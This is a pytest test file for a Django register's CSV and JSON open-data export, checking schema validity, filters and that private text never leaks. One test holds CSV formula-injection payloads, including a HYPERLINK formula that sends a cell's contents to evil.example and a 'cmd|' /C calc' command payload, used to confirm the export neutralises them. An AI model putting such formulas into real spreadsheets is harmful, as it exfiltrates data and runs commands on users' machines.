"""The register as open data: ?format=csv and ?format=json. Valid for spreadsheets and against the
documented schema, streamed, filtered like the page, and never carrying what is private."""

import csv
import datetime
import io
import json
from collections.abc import Iterable
from pathlib import Path
from typing import cast

import jsonschema  # type: ignore[import-untyped]  # no type information shipped
import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from engagements.models import (
    Agreement,
    AgreementVersion,
    Comment,
    Engagement,
    ReviewerNote,
    SharedPurposeVersion,
    TimelineEvent,
)
from engagements.open_data import CSV_COLUMNS, SCHEMA, safe_cell
from tests.engagements.agreements import bring_into_force
from tests.engagements.register_data import check_in, finish, published
from tests.matrix import SET_UP_TWO_FACTOR, assert_matrix

LIST = reverse("agreements:list")
SCHEMA_FILE = Path(__file__).resolve().parents[2] / "docs" / "agreements.schema.json"
BOM = "\ufeff"


@pytest.fixture
def public(active):
    Agreement.objects.filter(engagement=active).update(movement_publishes=True, institution_publishes=True)
    return Agreement.objects.get(engagement=active)


def body(response) -> str:
    assert isinstance(response, StreamingHttpResponse)
    # A synchronous response's content is an iterator of bytes (the type also allows an async one).
    return b"".join(cast(Iterable[bytes], response.streaming_content)).decode("utf-8")


def csv_rows(response) -> list[dict[str, str]]:
    text = body(response)
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text[len(BOM) :], newline="")))


def json_of(response) -> dict:
    return json.loads(body(response))


def closed(schema):
    """The documented schema with no room for undocumented fields: what we write is exactly
    what the schema names (readers must still allow additions, so the file itself stays open)."""
    if isinstance(schema, dict):
        schema = {key: closed(value) for key, value in schema.items()}
        if "properties" in schema:
            schema["additionalProperties"] = False
    elif isinstance(schema, list):
        schema = [closed(value) for value in schema]
    return schema


def validate(document):
    schema = json.loads(SCHEMA_FILE.read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(closed(schema), format_checker=jsonschema.FormatChecker()).validate(document)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_everyone_may_download(as_persona, public, fmt):
    assert_matrix(as_persona, f"{LIST}?format={fmt}", {"moderator_without_two_factor": SET_UP_TWO_FACTOR}, others=200)


# --- CSV -----------------------------------------------------------------------------------------


def test_csv_is_utf8_with_a_byte_order_mark_a_header_and_one_row_per_agreement(client, public, movement_b, way):
    published(movement=movement_b, institution=public.engagement.institution, model=way, title="Café au lait")
    response = client.get(LIST, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = datetime.date.today().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="common-ground-agreements-{today}.csv"'
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8")[1:]
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert lines[0] == CSV_COLUMNS
    assert len(lines) == 3
    rows = [dict(zip(CSV_COLUMNS, line, strict=True)) for line in lines[1:]]
    assert {row["title"] for row in rows} == {"Café au lait", "Peer support in the respiratory clinic"}


def test_a_csv_row_says_what_the_agreement_is_and_how_its_commitments_are_going(client, public):
    check_in(public, held_on=datetime.date(2026, 3, 20), note="Going well.", statuses={1: "done", 2: "at_risk"})
    (row,) = csv_rows(client.get(LIST, {"format": "csv"}))
    assert row["uuid"] == str(public.uuid)
    assert row["url"] == f"http://testserver{public.get_public_url()}"
    assert row["movement"] == "Breathe Together"
    assert row["movement_url"] == "http://testserver/movements/breathe-together/"
    assert (row["institution"], row["ods_code"], row["region"]) == ("Example Trust", "RX1", "London")
    assert row["engagement_model"] == "Co-host"
    assert row["status"] == "in_force"
    assert row["in_force_since"] == "2026-03-02T10:00:00Z"
    assert row["ended_at"] == ""
    assert row["version"] == "1"
    assert row["shared_purpose"] == "People with COPD feel less alone."
    assert (row["commitments"], row["done"], row["at_risk"], row["on_track"], row["overdue"]) == (
        "2",
        "1",
        "1",
        "0",
        "1",
    )
    assert row["public_voice_safeguard"] == "on"
    assert row["movement_signatory"] == "Leah Lead (Lead organiser)"
    assert row["institution_signatory"] == "Sian Signatory (Signatory)"


def test_an_ended_agreement_in_the_csv_says_so_with_the_date(client, public):
    finish(public, Engagement.Status.ENDED, at=datetime.datetime(2026, 9, 14, 12, 0, tzinfo=datetime.UTC))
    (row,) = csv_rows(client.get(LIST, {"format": "csv"}))
    assert (row["status"], row["ended_at"], row["overdue"]) == ("ended", "2026-09-14T12:00:00Z", "0")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(client, accepted, lead_a, signatory_x, start):
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    Engagement.objects.filter(pk=accepted.pk).update(title=hostile)
    # The draft's words, before both sides agree them (agreed words never change).
    SharedPurposeVersion.objects.filter(engagement=accepted).update(statement=f"{start}cmd|' /C calc'!A0")
    type(accepted.movement).objects.filter(pk=accepted.movement_id).update(name=f"{start}SUM(1+1)")
    bring_into_force(accepted, movement_signer=lead_a, institution_signer=signatory_x, publish=True)
    (row,) = csv_rows(client.get(LIST, {"format": "csv"}))
    assert row["title"] == "'" + hostile
    assert row["shared_purpose"] == f"'{start}cmd|' /C calc'!A0"
    assert row["movement"] == f"'{start}SUM(1+1)"
    # Ordinary cells and numbers are left alone.
    assert row["version"] == "1"
    assert row["ods_code"] == "RX1"


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    assert safe_cell(-3) == -3
    assert safe_cell("Plain words") == "Plain words"
    assert safe_cell("") == ""
    assert safe_cell("-1") == "'-1"


def test_the_csv_applies_the_same_filters(client, public, movement_b, way):
    published(movement=movement_b, institution=public.engagement.institution, model=way, title="Maternity voices")
    rows = csv_rows(client.get(LIST, {"format": "csv", "movement": movement_b.slug}))
    assert [row["title"] for row in rows] == ["Maternity voices"]
    rows = csv_rows(client.get(LIST, {"format": "csv", "q": "respiratory"}))
    assert [row["title"] for row in rows] == ["Peer support in the respiratory clinic"]


def test_the_csv_has_every_page(client, public, movement_b, way):
    for n in range(24):
        published(movement=movement_b, institution=public.engagement.institution, model=way, title=f"Agreement {n}")
    assert len(csv_rows(client.get(LIST, {"format": "csv", "page": "2"}))) == 25


def test_an_empty_csv_still_has_its_header(client, db):
    text = body(client.get(LIST, {"format": "csv"}))
    assert text == BOM + ",".join(CSV_COLUMNS) + "\r\n"


# --- JSON ----------------------------------------------------------------------------------------


def test_json_validates_against_the_documented_schema(client, public, movement_b, way):
    check_in(public, held_on=datetime.date(2026, 3, 20), note="Going well.", statuses={1: "done", 2: "missed"})
    ended = published(
        movement=movement_b,
        institution=public.engagement.institution,
        model=way,
        title="Over",
        keeps_public_voice=False,
        public_voice_off_reason="Both sides agreed a joint press line.",
    )
    finish(ended, Engagement.Status.WITHDRAWN, at=datetime.datetime(2026, 5, 1, 9, 0, tzinfo=datetime.UTC))
    response = client.get(LIST, {"format": "json"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="common-ground-agreements-')
    document = json_of(response)
    validate(document)
    assert document["schema"] == SCHEMA
    by_title = {a["title"]: a for a in document["agreements"]}
    assert sorted(by_title) == ["Over", "Peer support in the respiratory clinic"]
    over = by_title["Over"]
    assert (over["status"], over["ended_at"]) == ("withdrawn", "2026-05-01T09:00:00Z")
    assert over["safeguards"]["public_voice"] == {"on": False, "off_reason": "Both sides agreed a joint press line."}


def test_a_json_agreement_carries_its_purpose_commitments_and_signatures(client, public):
    check_in(public, held_on=datetime.date(2026, 3, 20), note="Going well.", statuses={1: "done"})
    (agreement,) = json_of(client.get(LIST, {"format": "json"}))["agreements"]
    assert agreement["uuid"] == str(public.uuid)
    assert agreement["movement"] == {
        "name": "Breathe Together",
        "slug": "breathe-together",
        "url": "http://testserver/movements/breathe-together/",
    }
    assert agreement["institution"]["ods_code"] == "RX1"
    assert agreement["institution"]["region"] == "london"
    assert agreement["shared_purpose"] == {
        "statement": "People with COPD feel less alone.",
        "outcomes": "Fewer missed appointments.",
    }
    assert [w["slug"] for w in agreement["ways_of_impact"]] == ["care-experience"]
    first, second = agreement["commitments"]
    assert first["what"] == "Book the room every month."
    assert (first["party"], first["due_date"], first["status"], first["status_as_of"]) == (
        "institution",
        "2026-04-01",
        "done",
        "2026-03-20",
    )
    assert (second["status"], second["status_as_of"], second["review_date"]) == ("on_track", None, "2026-06-01")
    assert [(s["side"], s["name"], s["role"]) for s in agreement["signatures"]] == [
        ("movement", "Leah Lead", "Lead organiser"),
        ("institution", "Sian Signatory", "Signatory"),
    ]


def test_an_empty_json_register_is_still_valid(client, db):
    document = json_of(client.get(LIST, {"format": "json"}))
    validate(document)
    assert document["agreements"] == []


def test_json_applies_the_same_filters(client, public, movement_b, way):
    published(movement=movement_b, institution=public.engagement.institution, model=way, title="Maternity voices")
    document = json_of(client.get(LIST, {"format": "json", "movement": "breathe-together"}))
    assert [a["title"] for a in document["agreements"]] == ["Peer support in the respiratory clinic"]


# --- Bad requests ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xml", "CSV", "csv\x00", "x" * 500])
def test_an_unknown_format_is_a_400_saying_which_there_are(client, public, fmt):
    response = client.get(LIST, {"format": fmt})
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "Ask for format=csv or format=json" in response.content.decode()


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"movement": "no-such-movement"}, "We did not recognise a filter value (Movement)"),
        ({"region": "atlantis"}, "We did not recognise a filter value (Region of the institution)"),
        ({"q": "x" * 201}, "Your search must be 200 characters or fewer (it has 201)"),
        ({"q": "a\x00b"}, "a null character"),
    ],
)
def test_open_data_with_a_filter_it_cannot_apply_is_a_400_not_a_quietly_wider_list(client, public, fmt, query, message):
    response = client.get(LIST, {"format": fmt, **query})
    assert response.status_code == 400
    assert message in response.content.decode()


# --- What never appears ------------------------------------------------------------------------


PRIVATE = {
    "comment": "SECRET-COMMENT-7f3a",
    "reviewer note": "SECRET-REVIEWER-NOTE-91b2",
    "draft purpose": "SECRET-DRAFT-PURPOSE-4c4d",
    "draft terms": "SECRET-DRAFT-TERMS-0e5f",
    "timeline reason": "SECRET-TIMELINE-REASON-66aa",
    "proposal ask": "SECRET-PROPOSAL-ASK-12cd",
}


@pytest.fixture
def with_secrets(public, lead_a, reviewer_x, signatory_x):
    """The published agreement, with private words around it that must never be published."""
    engagement = public.engagement
    Comment.objects.create(
        engagement=engagement, author=lead_a, side="movement", body=PRIVATE["comment"], created_at=public.in_force_since
    )
    ReviewerNote.objects.create(
        engagement=engagement, author=reviewer_x, body=PRIVATE["reviewer note"], created_at=public.in_force_since
    )
    SharedPurposeVersion.objects.create(engagement=engagement, number=2, statement=PRIVATE["draft purpose"])
    AgreementVersion.objects.create(agreement=public, number=2, exit_terms=PRIVATE["draft terms"])
    TimelineEvent.objects.create(
        engagement=engagement, kind="accepted", at=public.in_force_since, text=PRIVATE["timeline reason"]
    )
    Engagement.objects.filter(pk=engagement.pk).update(ask=PRIVATE["proposal ask"])
    return public


def private_strings(lead_a, signatory_x, reviewer_x):
    return [*PRIVATE.values(), lead_a.email, signatory_x.email, reviewer_x.email]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_private_words_and_emails_are_never_in_the_open_data(
    client, with_secrets, lead_a, signatory_x, reviewer_x, fmt
):
    text = body(client.get(LIST, {"format": fmt}))
    assert "Peer support in the respiratory clinic" in text
    for secret in private_strings(lead_a, signatory_x, reviewer_x):
        assert secret not in text, secret


def test_private_words_and_emails_are_never_on_the_register_pages(
    client, with_secrets, lead_a, signatory_x, reviewer_x
):
    for url in (LIST, with_secrets.get_public_url()):
        page = client.get(url).content.decode()
        assert "Peer support in the respiratory clinic" in page
        for secret in private_strings(lead_a, signatory_x, reviewer_x):
            assert secret not in page, (url, secret)


def test_the_version_in_force_is_published_not_a_newer_draft(client, with_secrets):
    (agreement,) = json_of(client.get(LIST, {"format": "json"}))["agreements"]
    assert agreement["version"] == 1
    assert agreement["shared_purpose"]["statement"] == "People with COPD feel less alone."


def test_a_field_the_schema_does_not_document_fails_the_check(client, public):
    """So the check above holds the output to the documented fields, and nothing slips in."""
    document = json_of(client.get(LIST, {"format": "json"}))
    document["agreements"][0]["movement"]["email"] = "lead@example.org"
    with pytest.raises(jsonschema.ValidationError):
        validate(document)
    document["agreements"][0]["movement"].pop("email")
    document["agreements"][0]["status"] = "draft"
    with pytest.raises(jsonschema.ValidationError):
        validate(document)
